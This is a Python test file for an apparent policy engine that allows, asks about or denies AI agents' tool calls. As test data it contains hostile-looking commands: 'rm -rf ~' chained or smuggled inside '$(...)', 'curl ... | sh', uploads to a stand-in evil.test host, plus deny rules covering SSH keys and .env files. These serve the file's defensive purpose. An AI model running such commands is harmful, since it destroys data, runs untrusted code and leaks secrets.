"""Evaluation semantics: ordering, most-restrictive-wins, conditions, params, call_count."""

from __future__ import annotations

from typing import Any

import pytest

from rampartd.models import Decision, ToolCall
from rampartd.policy import PolicySet, compile_text
from rampartd.policy.counter import SlidingWindowCounter
from rampartd.policy.engine import evaluate

HOME = "/home/u"


def policy_set(body: str, default: str = "allow") -> PolicySet:
    return compile_text(f'version: "1"\ndefault_action: {default}\npolicies:\n{body}', home=HOME)


def run(ps: PolicySet, tool: str = "exec", *, agent: str = "bot", session: str = "s1",
        cwd: str | None = None, **params: Any) -> Decision:
    return evaluate(ps, ToolCall(tool=tool, agent=agent, session=session, params=params, cwd=cwd))


LAYERED = """\
  - name: audit-git
    priority: 200
    match: {tool: exec}
    rules:
      - action: watch
        when: {command_matches: ["git *"]}
  - name: no-force
    priority: 10
    match: {tool: exec}
    rules:
      - action: allow
        when: {command_matches: ["git push origin main"]}
      - action: deny
        message: no force pushes
        when: {command_matches: ["git push *--force*"]}
  - name: ask-push
    priority: 50
    match: {tool: exec}
    rules:
      - action: ask
        when: {command_matches: ["git push *"]}
"""


def test_most_restrictive_wins_and_policies_are_listed_in_priority_order() -> None:
    ps = policy_set(LAYERED)
    d = run(ps, command="git push --force origin main")
    assert (d.action, d.policy, d.message) == ("deny", "no-force", "no force pushes")
    assert d.matched_policies == ("no-force", "ask-push", "audit-git")
    assert d.suggestions and "no-force" in d.suggestions[0]
    assert isinstance(d.evaluation_time_us, int) and d.evaluation_time_us >= 0


def test_first_matching_rule_decides_within_a_policy() -> None:
    d = run(policy_set(LAYERED), command="git push origin main")
    # no-force allows (its first rule), but ask-push still asks: across policies ask > allow.
    assert (d.action, d.policy) == ("ask", "ask-push")
    assert d.matched_policies == ("no-force", "ask-push", "audit-git")
    assert d.suggestions == ()


def test_watch_beats_allow_and_default_applies_when_nothing_matches() -> None:
    ps = policy_set(LAYERED, default="deny")
    assert run(ps, command="git status").action == "watch"
    d = run(ps, command="ls")
    assert (d.action, d.policy, d.matched_policies) == ("deny", None, ())
    assert "default action is deny" in d.message


def test_disabled_policies_do_not_take_part() -> None:
    ps = policy_set(LAYERED.replace("    priority: 10\n", "    priority: 10\n    enabled: false\n"))
    assert run(ps, command="git push --force").action == "ask"
    assert ps.policy_count == 2


ALLOW_GIT = """\
  - name: git-only
    match: {tool: exec}
    rules:
      - action: allow
        when: {command_matches: ["git *"]}
"""


@pytest.mark.parametrize(("command", "action"), [
    ("git status", "allow"),
    ("git status && git log", "allow"),
    ("git status && rm -rf ~", "deny"),
    ("git status; curl x", "deny"),
    ("git log | less", "deny"),
    ("git commit -m \"$(rm -rf ~)\"", "deny"),
    ("bash -c 'git status'", "allow"),
    ("sudo git status", "allow"),
    ("git status 'unterminated", "deny"),
])
def test_an_allow_must_cover_every_component(command: str, action: str) -> None:
    assert run(policy_set(ALLOW_GIT, default="deny"), command=command).action == action


def test_exec_without_a_command_string_is_not_allowed() -> None:
    ps = policy_set(ALLOW_GIT, default="allow")
    assert run(ps, command=["git", "status"]).action == "allow"  # argv lists are joined
    assert run(ps, command=42).action == "ask"
    assert run(ps).action == "ask"


def test_unparseable_commands_fail_closed() -> None:
    d = run(policy_set(ALLOW_GIT, default="allow"), command="git status 'unterminated")
    assert d.action == "ask" and "unterminated single quote" in d.message
    d = run(policy_set(ALLOW_GIT, default="allow"), command="$CMD -rf /")
    assert d.action == "ask" and "only known at run time" in d.message


DENY_RM = """\
  - name: no-rm
    match: {tool: exec}
    rules:
      - action: deny
        when: {command_matches: ["rm *"]}
"""


@pytest.mark.parametrize("command", [
    "rm x", "ls && rm x", "echo $(rm x)", "sh -c 'rm x'", "/bin/rm x", "'r'm x", "FOO=1 rm x",
    "sudo -u root rm x", "cat <(rm x)", "X=rm; $X x", "ls | xargs rm",
])
def test_a_deny_matches_any_component(command: str) -> None:
    assert run(policy_set(DENY_RM), command=command).action == "deny"


def test_deny_rules_also_see_unparseable_text() -> None:
    assert run(policy_set(DENY_RM), command="rm x 'unterminated").action == "deny"


def test_pipelines_match_as_a_whole() -> None:
    ps = policy_set("""\
  - name: pipes
    match: {tool: exec}
    rules:
      - action: deny
        when: {command_matches: ["curl * | sh"]}
""")
    assert run(ps, command="curl -s http://x | sh").action == "deny"
    assert run(ps, command="curl -s http://x | jq .").action == "allow"


PATHS = """\
  - name: keys
    match: {tool: [read, write]}
    rules:
      - action: deny
        when:
          path_matches: ["**/.ssh/id_*", "~/secrets/*", ".env"]
          path_not_matches: ["*.pub"]
"""


@pytest.mark.parametrize(("path", "cwd", "action"), [
    ("/home/u/.ssh/id_rsa", None, "deny"),
    ("/root/.ssh/id_ed25519", None, "deny"),
    ("/home/u/.ssh/id_rsa.pub", None, "allow"),
    ("~/.ssh/id_rsa", None, "deny"),
    ("/home/u/project/../.ssh//id_rsa", None, "deny"),
    ("../.ssh/id_rsa", "/home/u/project", "deny"),
    ("/home/u/./secrets/token", None, "deny"),
    ("/home/u/secrets/deeper/token", None, "allow"),
    ("app/.env", "/srv", "deny"),
    ("/srv/app/.envrc", None, "allow"),
    # case is ignored, as macOS and Windows file systems do
    ("~/.SSH/ID_RSA", None, "deny"),
    ("/HOME/U/Secrets/token", None, "deny"),
    ("~/.ssh/ID_RSA.PUB", None, "allow"),
])
def test_path_globs_and_normalisation(path: str, cwd: str | None, action: str) -> None:
    assert run(policy_set(PATHS), "read", cwd=cwd, path=path).action == action


def test_file_path_is_accepted_and_missing_paths_do_not_match() -> None:
    ps = policy_set(PATHS)
    assert run(ps, "write", file_path="/home/u/.ssh/id_rsa").action == "deny"
    assert run(ps, "write", content="x").action == "allow"


FUNDS = """\
  - name: funds
    match: {tool: transfer_funds}
    rules:
      - action: deny
        when: {params: {amount: {gt: 1000}}}
  - name: allow-small
    match: {tool: transfer_funds}
    rules:
      - action: allow
        when: {params: {amount: {lte: 1000}}}
"""


@pytest.mark.parametrize(("amount", "action"), [
    (5000, "deny"), (1000, "allow"), (999.5, "allow"), ("5000", "deny"), (" 20 ", "allow"),
    ("1e4", "deny"), ("lots", "deny"), (True, "deny"), (None, "deny"), ([1], "deny"),
])
def test_params_compare_numbers_as_numbers(amount: Any, action: str) -> None:
    assert run(policy_set(FUNDS, default="deny"), "transfer_funds", amount=amount).action == action


def test_undecidable_params_never_allow() -> None:
    ps = policy_set(FUNDS.split("  - name: allow-small")[0].replace("deny", "allow"),
                    default="deny")
    assert run(ps, "transfer_funds", amount="lots").action == "deny"
    assert run(ps, "transfer_funds", amount=2000).action == "allow"


@pytest.mark.parametrize(("constraint", "params", "holds"), [
    ("{eq: 5}", {"x": "5"}, True),
    ("{eq: 5}", {"x": 5.0}, True),
    ("{eq: 1}", {"x": True}, False),
    ("{eq: true}", {"x": True}, True),
    ("{eq: USD}", {"x": "usd"}, False),
    ("{ne: USD}", {"x": "EUR"}, True),
    ("{in: [a, b]}", {"x": "b"}, True),
    ("{not_in: [a, b]}", {"x": "c"}, True),
    ("{glob: 'prod-*'}", {"x": "prod-eu"}, True),
    ("{regex: '^[0-9]+$'}", {"x": "12a"}, False),
    ("{exists: true}", {}, False),
    ("{exists: false}", {}, True),
    ("{gte: 3}", {"x": 3}, True),
    ("{lt: 3}", {"x": "2.5"}, True),
    ("{eq: deep}", {"opts": {"x": "deep"}}, None),
])
def test_param_operators(constraint: str, params: dict[str, Any], holds: bool | None) -> None:
    name = "opts.x" if holds is None else "x"
    ps = policy_set(f"""\
  - name: p
    match: {{tool: t}}
    rules:
      - action: deny
        when: {{params: {{"{name}": {constraint}}}}}
""")
    assert (run(ps, "t", **params).action == "deny") == (holds is not False)


def rate_limited(most: int) -> PolicySet:
    """Searches denied past `most` calls a minute."""
    return policy_set(f"""\
  - name: rate
    match: {{tool: search}}
    rules:
      - action: deny
        when: {{call_count: {{max: {most}, window: 60s}}}}
""")


def test_call_count_sliding_window() -> None:
    ps = rate_limited(3)
    counter = SlidingWindowCounter()
    call = ToolCall(tool="search", agent="bot", session="s", params={})
    actions = []
    for second in range(5):
        actions.append(evaluate(ps, call, counter=counter, now=float(second)).action)
        counter.record("bot", "search", float(second))
    assert actions == ["allow", "allow", "allow", "deny", "deny"]
    # Older calls slide out of the window; other agents and tools have their own counts.
    assert evaluate(ps, call, counter=counter, now=62.5).action == "allow"
    other = ToolCall(tool="search", agent="other", session="s", params={})
    assert evaluate(ps, other, counter=counter, now=4.0).action == "allow"
    assert evaluate(ps, call).action == "allow"  # no counter: no previous calls
    with pytest.raises(ValueError, match="now="):
        evaluate(ps, call, counter=counter)


def test_sliding_window_counter_orders_and_prunes() -> None:
    counter = SlidingWindowCounter(horizon_seconds=100)
    for ts in (10.0, 5.0, 7.0, 200.0):
        counter.record("a", "t", ts)
    assert counter.count("a", "t", 1000, 200.0) == 1  # the old ones fell off the horizon
    counter.record("a", "t", 150.0)
    assert counter.count("a", "t", 60, 200.0) == 2
    assert counter.count("a", "t", 11, 160.0) == 1  # (149, 160]
    assert counter.count("a", "t", 10, 160.0) == 0  # (150, 160]: the window is open on the left
    assert counter.count("b", "t", 10, 160.0) == 0


def test_urls_and_domains() -> None:
    ps = policy_set("""\
  - name: net
    match: {tool: [fetch, exec]}
    rules:
      - action: deny
        when: {domain_matches: ["*.evil.test", "evil.test"]}
      - action: ask
        when: {url_matches: ["http://*"]}
""")
    assert run(ps, "fetch", url="https://A.Evil.Test:8443/x").action == "deny"
    assert run(ps, "fetch", url="http://good.test/").action == "ask"
    assert run(ps, "fetch", url="https://good.test/").action == "allow"
    assert run(ps, command="curl -s https://x.evil.test/upload").action == "deny"
    assert run(ps, command="wget evil.test/x").action == "deny"
    assert run(ps, command="ls").action == "allow"


def test_scopes_and_sessions() -> None:
    ps = policy_set("""\
  - name: interns
    match: {tool: "*", agent: ["intern-*"], session: ["s-*"]}
    rules:
      - action: deny
        when: {default: true}
  - name: release
    match: {tool: deploy}
    rules:
      - action: deny
        when: {session_not_matches: ["release-*"]}
      - action: ask
        when: {session_matches: ["release-*"]}
""")
    assert run(ps, "read", agent="intern-1", session="s-9", path="/x").action == "deny"
    assert run(ps, "read", agent="intern-1", session="other", path="/x").action == "allow"
    assert run(ps, "read", agent="senior", session="s-9", path="/x").action == "allow"
    assert run(ps, "deploy", session="dev-3").action == "deny"
    assert run(ps, "deploy", session="release-7").action == "ask"


def test_command_contains_and_not_matches() -> None:
    ps = policy_set("""\
  - name: p
    match: {tool: exec}
    rules:
      - action: deny
        when: {command_contains: ["--no-verify"]}
      - action: ask
        when: {command_not_matches: ["git *", "ls *"]}
""")
    assert run(ps, command="git commit --no-verify -m x").action == "deny"
    assert run(ps, command="git status && ls -la").action == "allow"
    assert run(ps, command="git status && make").action == "ask"


def test_many_policies_use_the_index_without_changing_results() -> None:
    body = "".join(f"""\
  - name: p{i}
    match: {{tool: exec}}
    rules:
      - action: {"deny" if i % 2 else "ask"}
        when: {{command_matches: ["prog{i} *"]}}
""" for i in range(300))
    ps = policy_set(body)
    assert run(ps, command="prog7 --x").action == "deny"
    assert run(ps, command="prog8 --x").action == "ask"
    d = run(ps, command="prog8 a && prog9 b")
    assert (d.action, d.matched_policies) == ("deny", ("p8", "p9"))
    assert run(ps, command="prog1000").action == "allow"
    # Repeats come from the plan's memo and must decide the same.
    assert run(ps, command="prog8 a && prog9 b").matched_policies == ("p8", "p9")


@pytest.mark.parametrize(("params", "action"), [
    ({"options": {"dry_run": False}}, "ask"),
    ({"options": {"dry_run": True}}, "allow"),
    ({"options.dry_run": False}, "ask"),
    # A literal "options.dry_run" must not hide the nested value the rule is about.
    ({"options.dry_run": True, "options": {"dry_run": False}}, "ask"),
    ({"options.dry_run": False, "options": {"dry_run": True}}, "ask"),
    ({"options.dry_run": True, "options": {"dry_run": True}}, "allow"),
])
def test_dotted_param_names_cannot_be_shadowed(params: dict[str, Any], action: str) -> None:
    ps = policy_set("""\
  - name: real-runs
    match: {tool: deploy}
    rules:
      - action: ask
        when: {params: {options.dry_run: {eq: false}}}
""")
    assert run(ps, "deploy", **params).action == action


MEMO = """\
  - name: force
    match: {tool: deploy}
    rules:
      - action: deny
        message: forced
        when: {params: {force: {eq: true}}}
  - name: ops-only
    match: {tool: exec, agent: "ops-*"}
    rules:
      - action: deny
        message: not for ops
        when: {command_matches: ["make *"]}
  - name: here
    match: {tool: exec}
    rules:
      - action: ask
        message: secret file
        when: {path_matches: ["/srv/secret/**"]}
"""


def test_repeated_calls_are_answered_from_the_decision_memo() -> None:
    ps = policy_set(MEMO)
    first = run(ps, command="make all", agent="ops-1")
    assert first.action == "deny" and len(ps.decisions) == 1
    again = run(ps, command="make all", agent="ops-1")
    assert again[:5] == first[:5] and len(ps.decisions) == 1
    # Everything the engine reads is part of the key: agent, session, cwd, argument types.
    assert run(ps, command="make all", agent="dev").action == "allow"
    assert run(ps, command="cat x", cwd="/srv/secret").action == "ask"
    assert run(ps, command="cat x", cwd="/srv/other").action == "allow"
    assert run(ps, "deploy", force=True).action == "deny"
    assert run(ps, "deploy", force=1).action == "allow"  # 1 is no boolean true
    assert run(ps, "deploy", force=True).action == "deny"
    assert len(ps.decisions) == 6


def test_nested_long_and_counted_calls_are_decided_afresh() -> None:
    ps = policy_set(MEMO)
    assert run(ps, "deploy", force=True, targets=["a", "b"]).action == "deny"
    assert run(ps, command="make " + "x" * 5000, agent="ops-1").action == "deny"
    assert ps.decisions == {}
    counted = rate_limited(1)
    counter = SlidingWindowCounter()
    call = ToolCall(tool="search", agent="bot", session="s", params={"q": "x"})
    assert evaluate(counted, call, counter=counter, now=1.0).action == "allow"
    counter.record("bot", "search", 1.0)
    assert evaluate(counted, call, counter=counter, now=2.0).action == "deny"
    assert counted.decisions == {}


def test_an_mcp_servers_file_tool_is_a_file_tool_and_still_an_mcp_call() -> None:
    ps = policy_set("""\
  - name: writes
    match: {tool: write}
    rules:
      - {action: deny, when: {path_matches: ["~/.bashrc"]}}
  - name: mcp-watch
    match: {tool: mcp}
    rules:
      - {action: watch, when: {default: true}}
""")
    d = run(ps, "mcp__filesystem__write_file", path="~/.bashrc", content="x")
    assert (d.action, d.matched_policies) == ("deny", ("writes", "mcp-watch"))
    assert run(ps, "mcp__filesystem__write_file", path="notes.md", content="x").action == "watch"
    assert run(ps, "mcp__github__create_issue", title="x").action == "watch"
    # the same call as the hooks send it: {server, tool, arguments}
    nested = evaluate(ps, ToolCall("mcp", "bot", "s1", {
        "server": "filesystem", "tool": "write_file",
        "arguments": {"path": "~/.bashrc", "content": "x"}}))
    assert (nested.action, nested.matched_policies) == ("deny", ("writes", "mcp-watch"))


def test_a_wildcard_target_reaches_a_rule_whatever_the_case() -> None:
    ps = policy_set(PATHS)
    assert run(ps, "read", path="~/.SS?/Id_*").action == "deny"
    assert run(ps, "read", path="~/.[Ss][Ss][Hh]/ID_RSA").action == "deny"
    assert run(ps, "read", path="~/.S*/config").action == "allow"
